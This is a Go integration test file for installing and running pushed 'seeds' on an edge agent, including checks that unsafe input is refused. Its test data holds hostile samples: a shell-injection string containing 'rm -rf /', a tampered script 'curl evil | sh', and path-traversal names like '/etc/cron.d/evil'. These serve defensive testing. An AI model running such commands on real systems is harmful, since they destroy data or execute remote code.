package test

import (
	"context"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/nats-io/nats.go"
	"github.com/nats-io/nats.go/jetstream"

	"github.com/edgectl/edgectl/bus"
	"github.com/edgectl/edgectl/ghost"
	"github.com/edgectl/edgectl/ghost/seeds/control"
	"github.com/edgectl/edgectl/ghost/seeds/declarative"
	"github.com/edgectl/edgectl/mirage"
	"github.com/edgectl/edgectl/test/testenv"
)

// bare describes a Ghost started with no built-in seeds: only the control seed "ghost"
// and what it installs under state.
type bare struct {
	nc    *nats.Conn
	allow []string
	boot  []string
	tune  func(*ghost.Config)
}

// stores holds the execution store of each state directory: a Ghost restarted on the same
// directory reopens it, as ghostctl does, so that it does not replay what it already ran.
var stores = map[string]*ghost.BoltStore{}

func durableStore(t *testing.T, state string) *ghost.BoltStore {
	t.Helper()
	if old, ok := stores[state]; ok {
		_ = old.Close() // the Ghost that used it was closed before the restart
	}
	st, err := ghost.OpenBoltStore(filepath.Join(state, "executions.db"), ghost.BoltOptions{})
	if err != nil {
		t.Fatal(err)
	}
	stores[state] = st
	t.Cleanup(func() { _ = st.Close(); delete(stores, state) })
	return st
}

func startBareGhost(t *testing.T, env *testenv.Env, id, state string, b bare) (*ghost.Ghost, *control.Seed) {
	t.Helper()
	if b.nc == nil {
		b.nc = env.Conn("ghost " + id)
	}
	cfg := ghost.Config{ID: id, Policy: ghost.PolicyAuto, ShutdownGrace: 5 * time.Second}
	if b.tune != nil {
		b.tune(&cfg)
	}
	g, err := ghost.New(b.nc, cfg, ghost.NewRegistry(), durableStore(t, state), env.Log)
	if err != nil {
		t.Fatal(err)
	}
	ctl, err := control.New(g, control.Config{Conn: b.nc, StateDir: state, Allow: b.allow, Log: env.Log})
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	if err := ctl.Boot(ctx, b.boot); err != nil {
		t.Fatalf("boot seeds: %v", err)
	}
	if err := g.Start(ctx); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = g.Close() })
	return g, ctl
}

func example(t *testing.T, name string) []byte {
	t.Helper()
	data, err := os.ReadFile(filepath.Join("..", "deploy", "seeds", name))
	if err != nil {
		t.Fatal(err)
	}
	return data
}

func seedStore(t *testing.T, js jetstream.JetStream) jetstream.ObjectStore {
	t.Helper()
	obs, err := js.ObjectStore(context.Background(), bus.BucketSeeds)
	if err != nil {
		t.Fatalf("object store %s: %v", bus.BucketSeeds, err)
	}
	return obs
}

// publish stores a spec and its files in edge_seeds, as 'miragectl seed push' does.
func publish(t *testing.T, obs jetstream.ObjectStore, spec []byte, files map[string][]byte) (declarative.Manifest, bool) {
	t.Helper()
	b, err := declarative.NewBundle(spec, files)
	if err != nil {
		t.Fatal(err)
	}
	m, unchanged, err := declarative.Publish(context.Background(), obs, b)
	if err != nil {
		t.Fatal(err)
	}
	return m, unchanged
}

func one(t *testing.T, rep *bus.Report) bus.TargetResult {
	t.Helper()
	if len(rep.Results) != 1 {
		t.Fatalf("%d results, want 1: %s", len(rep.Results), rep.Summary)
	}
	return rep.Results[0]
}

// install issues ghost seed.install with args and returns the one target's change.
func install(t *testing.T, env *testenv.Env, c *mirage.Client, scope string, args map[string]string) (bus.TargetResult, control.Change) {
	t.Helper()
	res := one(t, env.Run(c, testenv.NewIssue(scope, control.ID, control.OpInstall, args, 30*time.Second)))
	var ch control.Change
	if res.Outcome == bus.OutcomeSuccess {
		if err := json.Unmarshal([]byte(res.Stdout), &ch); err != nil {
			t.Fatalf("install stdout %q: %v", res.Stdout, err)
		}
	}
	return res, ch
}

func succeed(t *testing.T, env *testenv.Env, c *mirage.Client, scope, seed, op string, args map[string]string) bus.TargetResult {
	t.Helper()
	res := one(t, env.Run(c, testenv.NewIssue(scope, seed, op, args, 30*time.Second)))
	if res.Outcome != bus.OutcomeSuccess || res.ExitCode != 0 {
		t.Fatalf("%s %s: outcome %s exit %d error %+v stderr %q", seed, op, res.Outcome, res.ExitCode, res.Error, res.Stderr)
	}
	return res
}

func refusedWith(t *testing.T, res bus.TargetResult, code bus.Code, want string) {
	t.Helper()
	if res.Outcome != bus.OutcomeError || res.Error == nil || res.Error.Code != code || !strings.Contains(res.Error.Message, want) {
		t.Fatalf("outcome %s error %+v, want %d mentioning %q", res.Outcome, res.Error, code, want)
	}
}

func hostedSeeds(t *testing.T, c *mirage.Client, id string) []string {
	t.Helper()
	list, err := c.Ghosts(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	for _, g := range list {
		if g.GhostID == id {
			return g.Seeds
		}
	}
	t.Fatalf("ghost %s is not registered", id)
	return nil
}

func notInstalled(t *testing.T, g *ghost.Ghost, state, id string) {
	t.Helper()
	for _, in := range g.Registry().Infos() {
		if in.ID == id {
			t.Fatalf("seed %s is hosted", id)
		}
	}
	if _, err := os.Stat(filepath.Join(state, "seeds", id)); !os.IsNotExist(err) {
		t.Fatalf("%s was written under the state directory (%v)", id, err)
	}
	if left, _ := filepath.Glob(filepath.Join(state, "seeds", ".staging-*")); len(left) > 0 {
		t.Fatalf("staging left behind: %v", left)
	}
}

// A Ghost configured with no seeds comes online with only the control seed, installs
// pushed declarative seeds (a program, and a script file) and runs them; a re-push is a
// no-op, a new version replaces the old, the seeds survive a restart, removal works.
func TestSeedPushBringsBareGhostOnline(t *testing.T) {
	env := testenv.New(t)
	env.StartMirage(mirage.Config{})
	client := env.Client()
	obs := seedStore(t, env.JetStream())
	state := filepath.Join(env.Dir, "edge-1")
	g, _ := startBareGhost(t, env, "edge-1", state, bare{allow: []string{"node.*", "service.*", "test.*"}})
	if got := hostedSeeds(t, client, "edge-1"); strings.Join(got, ",") != "ghost" {
		t.Fatalf("a bare Ghost registered seeds %v, want only ghost", got)
	}

	node, unchanged := publish(t, obs, example(t, "node.system.toml"), nil)
	if unchanged {
		t.Fatal("the first push reported unchanged")
	}
	if res, ch := install(t, env, client, "edge-1", node.InstallArgs()); res.Outcome != bus.OutcomeSuccess || ch.Action != "installed" {
		t.Fatalf("install: %+v %+v", res, ch)
	}
	if got := hostedSeeds(t, client, "edge-1"); strings.Join(got, ",") != "ghost,node.system" {
		t.Fatalf("after install the Ghost registered %v", got)
	}
	want, _ := exec.Command("uname", "-a").Output()
	if res := succeed(t, env, client, "edge-1", "node.system", "uname", nil); res.Stdout != string(want) {
		t.Fatalf("uname stdout %q, want %q", res.Stdout, want)
	}

	// A pushed script, run as /bin/sh FILE: its argument stays one plain string.
	svc, _ := publish(t, obs, example(t, "service.example.toml"), map[string][]byte{"service.example.sh": example(t, "service.example.sh")})
	if res, ch := install(t, env, client, "edge-1", svc.InstallArgs()); ch.Action != "installed" {
		t.Fatalf("install service.example: %+v", res)
	}
	nasty := "a; rm -rf / $(x) `id` | cat > /tmp/pwned"
	if res := succeed(t, env, client, "edge-1", "service.example", "greet", map[string]string{"name": nasty}); res.Stdout != "hello, "+nasty+"\n" {
		t.Fatalf("greet stdout %q", res.Stdout)
	}
	failed := one(t, env.Run(client, testenv.NewIssue("edge-1", "service.example", "check", map[string]string{"status": "3"}, 10*time.Second)))
	refusedWith(t, failed, bus.CodeRuntime, "exited with status 3")
	if failed.ExitCode != 3 {
		t.Fatalf("exit code %d, want 3", failed.ExitCode)
	}

	// The same metacharacters through printf, straight to the program.
	echo := []byte("id = \"test.echo\"\nname = \"Echo\"\nversion = \"1\"\n[operations.say]\ndescription = \"printf %s VALUE\"\n" +
		"argv = [\"printf\", \"%s\", \"{{value}}\"]\nidempotent = true\n[operations.say.params.value]\nrequired = true\npattern = \"(?s).+\"\n")
	em, _ := publish(t, obs, echo, nil)
	install(t, env, client, "edge-1", em.InstallArgs())
	if res := succeed(t, env, client, "edge-1", "test.echo", "say", map[string]string{"value": "a; rm -rf / $(x)"}); res.Stdout != "a; rm -rf / $(x)" {
		t.Fatalf("printf stdout %q", res.Stdout)
	}

	// Pushing the same version again changes nothing.
	if _, unchanged := publish(t, obs, example(t, "node.system.toml"), nil); !unchanged {
		t.Fatal("a re-push of the same version was not a no-op in the store")
	}
	if _, ch := install(t, env, client, "edge-1", node.InstallArgs()); ch.Action != "unchanged" || !strings.Contains(ch.Message, "nothing to do") {
		t.Fatalf("re-install: %+v", ch)
	}

	// A new version replaces the old one, on disk too.
	v2 := strings.Replace(string(example(t, "node.system.toml")), `version = "1.0.0"`, `version = "1.1.0"`, 1)
	node2, _ := publish(t, obs, []byte(v2), nil)
	if _, ch := install(t, env, client, "edge-1", node2.InstallArgs()); ch.Action != "replaced" || ch.Previous != "1.0.0" || ch.Version != "1.1.0" {
		t.Fatalf("new version: %+v", ch)
	}
	if dirs, _ := filepath.Glob(filepath.Join(state, "seeds", "node.system", "1.*")); len(dirs) != 1 || filepath.Base(dirs[0]) != "1.1.0" {
		t.Fatalf("version directories %v, want only 1.1.0", dirs)
	}

	// Restart on the same state directory: the installed seeds are hosted again (those
	// seed_allowlist still allows: all of them here).
	_ = g.Close()
	g, _ = startBareGhost(t, env, "edge-1", state, bare{nc: env.Conn("edge-1 again"), allow: []string{"node.*", "service.*", "test.*"}})
	for _, in := range g.Registry().Infos() {
		if in.ID == "node.system" && in.Version != "1.1.0" {
			t.Fatalf("after restart node.system is %s", in.Version)
		}
	}
	if got := hostedSeeds(t, client, "edge-1"); strings.Join(got, ",") != "ghost,node.system,service.example,test.echo" {
		t.Fatalf("after restart the Ghost registered %v", got)
	}
	succeed(t, env, client, "edge-1", "service.example", "status", nil)

	// Removal unregisters it and deletes its files; removing again is a no-op.
	rm := succeed(t, env, client, "edge-1", control.ID, control.OpRemove, map[string]string{"id": "node.system"})
	if !strings.Contains(rm.Stdout, `"action":"removed"`) {
		t.Fatalf("remove stdout %q", rm.Stdout)
	}
	notInstalled(t, g, state, "node.system")
	if got := hostedSeeds(t, client, "edge-1"); strings.Join(got, ",") != "ghost,service.example,test.echo" {
		t.Fatalf("after removal the Ghost registered %v", got)
	}
	if rm := succeed(t, env, client, "edge-1", control.ID, control.OpRemove, map[string]string{"id": "node.system"}); !strings.Contains(rm.Stdout, `"action":"absent"`) {
		t.Fatalf("second remove stdout %q", rm.Stdout)
	}
}

// What must not be installed is refused, and nothing of it reaches the state directory:
// a tampered object, a seed off the allowlist, file names leaving the files directory.
func TestSeedPushRefusals(t *testing.T) {
	env := testenv.New(t)
	env.StartMirage(mirage.Config{})
	client := env.Client()
	obs := seedStore(t, env.JetStream())
	state := filepath.Join(env.Dir, "edge-2")
	g, _ := startBareGhost(t, env, "edge-2", state, bare{allow: []string{"service.*", "evil.*"}})
	ctx := context.Background()

	// Tampered: the script is replaced in the store after the push computed its digest.
	svc, _ := publish(t, obs, example(t, "service.example.toml"), map[string][]byte{"service.example.sh": example(t, "service.example.sh")})
	if _, err := obs.PutBytes(ctx, svc.Files[0].Object, []byte("#!/bin/sh\ncurl evil | sh\n")); err != nil {
		t.Fatal(err)
	}
	res, _ := install(t, env, client, "edge-2", svc.InstallArgs())
	refusedWith(t, res, bus.CodeSecurity, "tampered")
	notInstalled(t, g, state, "service.example")

	// Not on the allowlist.
	node, _ := publish(t, obs, example(t, "node.system.toml"), nil)
	res, _ = install(t, env, client, "edge-2", node.InstallArgs())
	refusedWith(t, res, bus.CodeSecurity, `seed_allowlist in the Ghost's config file (e.g. "node.*"; 'ghostctl init --allow-seeds' writes it), then restart the Ghost`)
	notInstalled(t, g, state, "node.system")

	// File names that would leave the files directory: in the install's args (refused by
	// the param's pattern, already by Mirage against the params the Ghost registered),
	// and in a spec stored without going through push.
	args := svc.InstallArgs()
	args["files"] = "../../escape.sh:" + svc.Files[0].SHA256
	_, err := client.Issue(ctx, testenv.NewIssue("edge-2", control.ID, control.OpInstall, args, 30*time.Second))
	if perr := bus.AsError(err); err == nil || perr.Code != bus.CodeSemantic || !strings.Contains(perr.Message, "args.files") {
		t.Fatalf("install with a file name leaving the files directory: %v, want refused 1300 on args.files", err)
	}
	for i, name := range []string{"../escape.sh", "/etc/cron.d/evil"} {
		spec := []byte("id = \"evil.files\"\nname = \"Evil\"\nversion = \"" + string(rune('1'+i)) + "\"\n[[files]]\nname = \"" + name + "\"\n" +
			"[operations.run]\ndescription = \"d\"\nargv = [\"/bin/sh\", \"{{file:" + name + "}}\"]\nidempotent = true\n")
		object := declarative.SpecObject("evil.files", string(rune('1'+i)))
		if _, err := obs.PutBytes(ctx, object, spec); err != nil {
			t.Fatal(err)
		}
		res, _ = install(t, env, client, "edge-2", map[string]string{"id": "evil.files", "version": string(rune('1' + i)), "sha256": declarative.Digest(spec)})
		refusedWith(t, res, bus.CodeSemantic, name)
		notInstalled(t, g, state, "evil.files")
	}
	if _, err := os.Stat(filepath.Join(filepath.Dir(state), "escape.sh")); !os.IsNotExist(err) {
		t.Fatal("a file escaped the state directory")
	}
}

// Boot seeds: a new Ghost with only a config installs them from edge_seeds before it
// serves, so its first registration lists them; a second boot reads nothing.
func TestSeedBootInstall(t *testing.T) {
	env := testenv.New(t)
	env.StartMirage(mirage.Config{})
	client := env.Client()
	publish(t, seedStore(t, env.JetStream()), example(t, "node.system.toml"), nil)
	state := filepath.Join(env.Dir, "edge-3")
	g, _ := startBareGhost(t, env, "edge-3", state, bare{boot: []string{"node.system@1.0.0"}})
	if got := hostedSeeds(t, client, "edge-3"); strings.Join(got, ",") != "ghost,node.system" {
		t.Fatalf("a Ghost with boot seeds registered %v", got)
	}
	succeed(t, env, client, "edge-3", "node.system", "uptime", nil)
	_ = g.Close()
	startBareGhost(t, env, "edge-3", state, bare{nc: env.Conn("edge-3 again"), boot: []string{"node.system@1.0.0", "node.system"}})
	succeed(t, env, client, "edge-3", "node.system", "uname", nil)
}
